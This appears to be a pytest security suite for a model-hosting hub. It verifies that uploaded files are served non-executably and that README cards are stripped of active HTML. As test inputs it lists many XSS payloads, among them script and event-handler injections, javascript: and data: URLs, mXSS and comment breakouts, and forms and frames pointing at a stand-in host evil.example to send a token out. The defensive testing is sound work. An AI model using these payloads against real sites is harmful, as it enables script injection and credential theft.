"""Files that would run in a browser if it let them: they are served so that it does not."""

from html.parser import HTMLParser

import pytest

from tests.attack.arena import Arena, build, formed, sha256, target_of

SCRIPT = "<script>fetch('/api/whoami-v2')</script>"

FILES = {
    "page.html": SCRIPT,
    "page.HTM": SCRIPT,
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>',
    "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>',
    "feed.xml": f'<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?>{SCRIPT}',
    "sheet.xsl": SCRIPT,
    "code.js": "alert(1)",
    "code.mjs": "alert(1)",
    "worker.wasm": "\0asm",
    "style.css": "body{background:url(//evil.example)}",
    "paper.pdf": "%PDF-1.7",
    "picture.png": SCRIPT,
    "data.json": SCRIPT,
    "old.swf": "FWS",
    "cache.appcache": "CACHE MANIFEST",
    "mail.mht": SCRIPT,
    "link.url": "[InternetShortcut]",
    "noextension": SCRIPT,
    "index.html.": SCRIPT,
    "a.html;.png": SCRIPT,
    ".htaccess": "AddType text/html .png",
}
RUNNABLE = (
    "text/html",
    "application/xhtml",
    "text/xml",
    "application/xml",
    "javascript",
    "text/css",
    "pdf",
    "wasm",
)


@pytest.fixture(scope="module")
def arena(tmp_path_factory):
    with build(tmp_path_factory.mktemp("served")) as built:
        api = built.create("alice/open")
        inline = [("file", {"path": name, "content": text}) for name, text in FILES.items()]
        large = [
            ("lfsFile", {"path": f"lfs/{name}", "oid": built.upload(api, text.encode() + b"<!-- large -->")})
            for name, text in FILES.items()
        ]
        assert built.commit(api, *inline, *large).status == 200
        yield built


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("folder", ["", "lfs/"], ids=["in git", "large"])
@pytest.mark.parametrize("call", ["resolve", "raw"])
def test_nothing_that_was_uploaded_runs_here(arena: Arena, name: str, folder: str, call: str):
    for headers in ([], [("range", "bytes=0-3")], [("accept", "text/html")]):
        answer = arena.ask("GET", f"/alice/open/{call}/main/{folder}{name}", headers=headers)
        assert answer.status in {200, 206}
        formed(answer)
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
        assert "allow-scripts" not in answer.headers["content-security-policy"]
        assert answer.headers["content-security-policy"].startswith("default-src 'none'")
        kind = answer.headers["content-type"]
        assert not any(word in kind for word in RUNNABLE), kind
        assert "svg" not in kind or answer.headers["content-disposition"].startswith("attachment;")


def test_a_link_of_a_download_is_as_safe(arena: Arena):
    data = FILES["page.html"].encode() + b"<!-- large -->"
    entry = arena.batch("/api/models/alice/open", sha256(data), len(data), by=None, operation="download")
    answer = arena.ask("GET", target_of(entry["actions"]["download"]["href"]))
    assert answer.body == data
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in answer.headers["content-security-policy"]


CARDS = {
    "a script": SCRIPT,
    "a script in capitals": "<ScRiPt >alert(1)</sCrIpT>",
    "a script that is never closed": "<script>alert(1)",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler without blanks": "<svg/onload=alert(1)>",
    "a script as an address": "[x](javascript:alert(1))",
    "a script as an address, hidden": "[x](java\tscript:alert(1)) <a href='&#106;avascript:alert(1)'>x</a>",
    "data as an address": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "an old script": "[x](vbscript:x)",
    "a frame": "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "a form": "<form action=//evil.example><input name=token><button formaction=//evil.example>",
    "a base": "<base href=//evil.example>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a sheet": "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    "a style": "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
    "mathematics": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "a template": "<template><script>alert(1)</script></template>",
    "a comment": "<!--><script>alert(1)</script>-->",
    "a section": "<![CDATA[><script>alert(1)</script>]]>",
    "an id of the page": "<div id=__proto__ name=location>x</div>",
    "a tag in an address": '[x](<"onmouseover="alert(1)>)',
    "a fence": "```<script>\nalert(1)\n```",
    "a table": "|a|\n|-|\n|<script>alert(1)</script>|",
    "a picture of a script": '![<script>](x "onerror=alert(1)")',
    "a way up": "![x](../../../../api/whoami-v2) [y](..%2f..%2flogin)",
}


ACTING = {
    "script", "iframe", "object", "embed", "base", "style", "svg", "math", "template", "textarea", "frame",
}  # fmt: skip
PAGE_IDS = {"content", "lineage"}


class Tags(HTMLParser):
    """Which tags and attributes a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("text", CARDS.values(), ids=CARDS.keys())
def test_a_card_brings_nothing_that_acts(arena: Arena, text: str):
    done = arena.commit(
        "/api/models/alice/open", ("file", {"path": "README.md", "content": f"# x\n\n{text}\n"})
    )
    assert done.status == 200
    page = arena.ask("GET", "/alice/open", headers=[("accept", "text/html")])
    assert page.status == 200
    formed(page)
    seen = Tags()
    seen.feed(page.body.decode())
    assert not seen.names & ACTING, seen.names & ACTING
    for name, value in seen.attributes:
        assert not name.startswith("on"), name
        assert name not in {"style", "formaction", "srcdoc", "ping"}, name
        if name in {"href", "src", "action"}:
            assert value.startswith(("/", "#", "?", "http://hub.test", "https://evil.example/")), value
            assert name == "href" or "evil" not in value, value
        if name == "id":
            assert value in PAGE_IDS or value.startswith("card-"), value
    assert "script" not in page.headers["content-security-policy"]
